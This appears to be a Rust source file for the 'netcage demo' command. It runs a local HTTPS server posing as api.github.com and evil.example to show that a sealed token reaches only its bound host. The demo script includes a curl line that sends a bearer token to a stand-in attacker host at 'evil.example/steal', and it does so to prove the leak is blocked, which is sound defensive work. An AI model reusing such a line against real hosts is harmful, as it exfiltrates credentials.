//! `netcage demo`: the whole idea on a fresh machine, offline. A local HTTPS server plays
//! "api.github.com" (with its own CA, reached through `--resolve`); a demo secret is sealed;
//! curl runs through `netcage run`; we show what the child held, what the server received, and
//! what happened when the same token was aimed at another host.

use std::convert::Infallible;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};

use anyhow::Context;
use bytes::Bytes;
use http_body_util::Full;
use hyper::service::service_fn;
use hyper::{Request, Response};
use hyper_util::rt::{TokioExecutor, TokioIo};
use rcgen::{CertificateParams, IsCa, Issuer, KeyPair};

use super::{DemoArgs, Tier};

const DEMO_SECRET: &str = "ghp_demoSecretValue1234567890";

type Seen = Arc<Mutex<Vec<(String, String)>>>;

pub fn demo(args: DemoArgs) -> anyhow::Result<u8> {
    let dir = tempfile_dir()?;
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()?;
    let seen: Seen = Arc::default();
    let (addr, ca_path) = runtime.block_on(start_server(&dir, seen.clone()))?;
    let port = addr.port();
    let audit = dir.join("audit.jsonl");
    let script = format!(
        r#"echo "child holds    DEMO_TOKEN=$DEMO_TOKEN"
printf 'api.github.com answered: '; curl -sS -H "Authorization: Bearer $DEMO_TOKEN" https://api.github.com:{port}/user; echo
printf 'evil.example answered:   '; curl -sS -H "Authorization: Bearer $DEMO_TOKEN" https://evil.example:{port}/steal; echo"#
    );
    let tier = match args.tier {
        Tier::Auto => "auto",
        Tier::Netns => "netns",
        Tier::Env => "env",
    };
    println!(
        "$ DEMO_TOKEN=<secret> netcage run --seal DEMO_TOKEN=api.github.com -- sh -c 'curl ... https://api.github.com/user; curl ... https://evil.example/steal'\n"
    );
    let status = std::process::Command::new(std::env::current_exe()?)
        .args(["run", "--tier", tier, "--data-dir"])
        .arg(dir.join("db"))
        .arg("--upstream-ca")
        .arg(&ca_path)
        .args([
            "--resolve",
            "api.github.com=127.0.0.1",
            "--resolve",
            "evil.example=127.0.0.1",
        ])
        .args(["--seal", "DEMO_TOKEN=api.github.com", "--audit"])
        .arg(&audit)
        .args(["--", "sh", "-c", &script])
        .env("DEMO_TOKEN", DEMO_SECRET)
        .status()
        .context("cannot run netcage itself")?;
    println!(
        "\nwhat the HTTPS server received (it sees the real value only where the token is bound):"
    );
    for (host, auth) in seen.lock().unwrap_or_else(|p| p.into_inner()).iter() {
        println!("  {host:<16} Authorization: {auth}");
    }
    println!("\naudit log ({}):", audit.display());
    for line in std::fs::read_to_string(&audit).unwrap_or_default().lines() {
        println!("  {line}");
    }
    let got_secret = seen
        .lock()
        .unwrap_or_else(|p| p.into_inner())
        .iter()
        .any(|(h, a)| h == "api.github.com" && a.contains(DEMO_SECRET));
    let leaked = seen
        .lock()
        .unwrap_or_else(|p| p.into_inner())
        .iter()
        .any(|(h, _)| h != "api.github.com");
    let _ = std::fs::remove_dir_all(&dir);
    if status.success() && got_secret && !leaked {
        println!(
            "\nOK: the child held only a token; api.github.com got the secret; evil.example got nothing."
        );
        Ok(0)
    } else {
        anyhow::bail!("the demo did not go as expected (is curl installed?)")
    }
}

fn tempfile_dir() -> anyhow::Result<std::path::PathBuf> {
    let mut name = [0u8; 6];
    rand::fill(&mut name);
    let hex: String = name.iter().map(|b| format!("{b:02x}")).collect();
    let dir = std::env::temp_dir().join(format!("netcage-demo-{hex}"));
    std::fs::create_dir_all(&dir).with_context(|| format!("cannot create {}", dir.display()))?;
    Ok(dir)
}

/// A tiny HTTPS server for "api.github.com" and "evil.example" with its own CA.
async fn start_server(
    dir: &std::path::Path,
    seen: Seen,
) -> anyhow::Result<(SocketAddr, std::path::PathBuf)> {
    let ca_key = KeyPair::generate()?;
    let mut ca_params = CertificateParams::new(Vec::<String>::new())?;
    ca_params.is_ca = IsCa::Ca(rcgen::BasicConstraints::Unconstrained);
    let ca_cert = ca_params.self_signed(&ca_key)?;
    let issuer = Issuer::new(ca_params, ca_key);
    let leaf_key = KeyPair::generate()?;
    let leaf = CertificateParams::new(vec!["api.github.com".into(), "evil.example".into()])?
        .signed_by(&leaf_key, &issuer)?;
    let ca_path = dir.join("demo-server-ca.pem");
    std::fs::write(&ca_path, ca_cert.pem())?;
    let provider = Arc::new(rustls::crypto::ring::default_provider());
    let mut config = rustls::ServerConfig::builder_with_provider(provider)
        .with_safe_default_protocol_versions()?
        .with_no_client_auth()
        .with_single_cert(
            vec![leaf.der().clone()],
            rustls::pki_types::PrivateKeyDer::Pkcs8(leaf_key.serialize_der().into()),
        )?;
    config.alpn_protocols = vec![b"http/1.1".to_vec()];
    let acceptor = tokio_rustls::TlsAcceptor::from(Arc::new(config));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await?;
    let addr = listener.local_addr()?;
    tokio::spawn(async move {
        while let Ok((stream, _)) = listener.accept().await {
            let acceptor = acceptor.clone();
            let seen = seen.clone();
            tokio::spawn(async move {
                let Ok(tls) = acceptor.accept(stream).await else {
                    return;
                };
                let sni = tls.get_ref().1.server_name().unwrap_or("").to_owned();
                let svc = service_fn(move |req: Request<hyper::body::Incoming>| {
                    let auth = req
                        .headers()
                        .get("authorization")
                        .map(|v| String::from_utf8_lossy(v.as_bytes()).into_owned())
                        .unwrap_or_default();
                    seen.lock()
                        .unwrap_or_else(|p| p.into_inner())
                        .push((sni.clone(), auth));
                    async {
                        Ok::<_, Infallible>(Response::new(Full::new(Bytes::from_static(
                            b"{\"login\":\"octocat\"}",
                        ))))
                    }
                });
                let _ = hyper_util::server::conn::auto::Builder::new(TokioExecutor::new())
                    .serve_connection(TokioIo::new(tls), svc)
                    .await;
            });
        }
    });
    Ok((addr, ca_path))
}
